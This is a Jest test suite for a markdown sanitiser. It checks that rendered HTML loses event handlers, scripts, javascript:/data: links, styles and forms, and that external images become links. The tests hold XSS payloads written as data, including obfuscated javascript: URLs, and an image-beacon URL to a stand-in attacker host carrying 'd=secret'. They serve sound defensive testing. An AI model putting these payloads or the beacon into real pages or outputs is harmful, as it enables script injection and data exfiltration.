import { describe, expect, it } from '@jest/globals';
import { isInAppHref, renderMarkdown } from './markdown';

function dom(markdown: string): HTMLElement {
  const holder = document.createElement('div');
  holder.innerHTML = renderMarkdown(markdown);
  return holder;
}

describe('markdown sanitiser', () => {
  it('renders markdown', () => {
    const html = dom('**bold** and a list:\n\n- one\n- two');
    expect(html.querySelector('strong')?.textContent).toBe('bold');
    expect(html.querySelectorAll('li')).toHaveLength(2);
  });

  it('drops event handlers: an img with onerror keeps no handler', () => {
    const html = dom('look <img src=x onerror="window.__xss=1"> here');
    const attributes = [...html.querySelectorAll('*')].flatMap((element) => [...element.attributes].map((a) => a.name));
    expect(attributes.filter((name) => name.startsWith('on'))).toEqual([]);
    expect(html.innerHTML).not.toContain('__xss');
  });

  it('leaves script tags out entirely', () => {
    const html = dom('before <script>window.__xss=3</script> after');
    expect(html.querySelector('script')).toBeNull();
    expect(html.innerHTML).not.toContain('__xss');
  });

  it('removes javascript:, data: and other non-web links but keeps the text', () => {
    for (const href of ['javascript:window.__xss=2', 'JaVaScRiPt:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:x']) {
      const link = dom(`[click](${href})`).querySelector('a');
      expect(link?.textContent).toBe('click');
      expect(link?.getAttribute('href')).toBeNull();
    }
    const raw = dom('<a href="java&#x09;script:alert(1)">raw</a>').querySelector('a');
    expect(raw?.getAttribute('href')).toBeNull();
  });

  it('keeps transcript links in the app and opens external links in a new tab without an opener', () => {
    const inApp = dom('[at 1:05](/transcripts/abc?t=65)').querySelector('a');
    expect(inApp?.getAttribute('href')).toBe('/transcripts/abc?t=65');
    expect(inApp?.getAttribute('target')).toBeNull();
    const external = dom('[docs](https://example.com/x)').querySelector('a');
    expect(external?.getAttribute('href')).toBe('https://example.com/x');
    expect(external?.getAttribute('target')).toBe('_blank');
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('opens a cited knowledge file (served by the API, not a screen) in a new tab at its page', () => {
    const file = dom('[handbook.pdf, page 2](/api/custom-gpt/g1/files/f1#page=2)').querySelector('a');
    expect(file?.getAttribute('href')).toBe('/api/custom-gpt/g1/files/f1#page=2');
    expect(file?.getAttribute('target')).toBe('_blank');
    expect(file?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('turns an image on another host into a link that opens on request, so nothing is fetched', () => {
    const html = dom('![chart](https://evil.example/pixel.png?d=secret)');
    expect(html.querySelector('img')).toBeNull();
    const link = html.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://evil.example/pixel.png?d=secret');
    expect(link?.textContent).toBe('chart');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    const unnamed = dom('![](http://127.0.0.1:9/p.png)').querySelector('a');
    expect(unnamed?.textContent).toBe('127.0.0.1:9');
    expect(dom('<img src="//evil.example/p.png" alt="x">').querySelector('img')).toBeNull();
  });

  it('still shows an image this site serves', () => {
    expect(dom('![logo](/api/branding/logo.png)').querySelector('img')?.getAttribute('src')).toBe(
      '/api/branding/logo.png',
    );
    const own = `${window.location.origin}/a.png`;
    expect(dom(`![a](${own})`).querySelector('img')?.getAttribute('src')).toBe(own);
  });

  it('refuses protocol-relative links as in-app paths', () => {
    expect(isInAppHref('/transcripts/1')).toBe(true);
    expect(isInAppHref('//evil.example/x')).toBe(false);
    expect(isInAppHref('https://evil.example')).toBe(false);
    expect(dom('[x](//evil.example/x)').querySelector('a')?.getAttribute('href')).toBeNull();
  });

  it('drops style attributes and forms', () => {
    const html = dom('<p style="position:fixed">hi</p><form action="/x"><input name="a"></form>');
    expect(html.querySelector('[style]')).toBeNull();
    expect(html.querySelector('form, input')).toBeNull();
  });
});
